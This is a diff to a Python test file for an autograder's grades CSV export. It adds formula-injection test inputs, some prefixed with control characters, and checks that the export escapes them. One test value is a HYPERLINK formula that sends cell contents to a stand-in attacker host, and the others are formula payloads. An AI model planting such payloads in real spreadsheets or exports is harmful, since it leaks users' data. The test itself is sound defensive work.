@@ -10,7 +10,7 @@ from hypothesis import HealthCheck, given, settings, strategies as st
 
 from autograder.engine import (gradescope_results, grades_csv, load_config, read_result, read_results,
                                write_grades_csv, write_result)
-from autograder.engine.outputs import atomic_write_text
+from autograder.engine.outputs import atomic_write_text, strip_control_chars
 from autograder.engine.results import ItemResult, SubmissionResult
 from autograder.gradescope.schema import check_results
 
@@ -60,7 +60,9 @@ def test_grades_csv_leaves_manual_items_blank_and_sorts_students():
     assert row["isolation"] == "bubblewrap"
 
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
+# A control character before the formula is removed from the cell: it must not hide the formula.
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1",
+            "\x01=HYPERLINK(1)", "\x1b\x7f@SUM(A1)", "\x9b-2+3"]
 
 
 @pytest.mark.parametrize("student", FORMULAS)
@@ -68,7 +70,7 @@ def test_grades_csv_escapes_cells_a_spreadsheet_would_run_as_formulas(student):
     config = load_config("lec01_codesign")
     rows = list(csv.reader(io.StringIO(grades_csv(config, [sample(student), sample("amy")]))))
     (escaped,) = [row[0] for row in rows[1:] if row[0] != "amy"]
-    assert escaped == "'" + student.replace("\r", "")     # shown as text; CR is a control character
+    assert escaped == "'" + strip_control_chars(student)     # shown as text, without control characters
 
 
 CONTROL = "nul:\x00 bell:\x07 esc:\x1b[2J cr:\r del:\x7f c1:\x9b end"
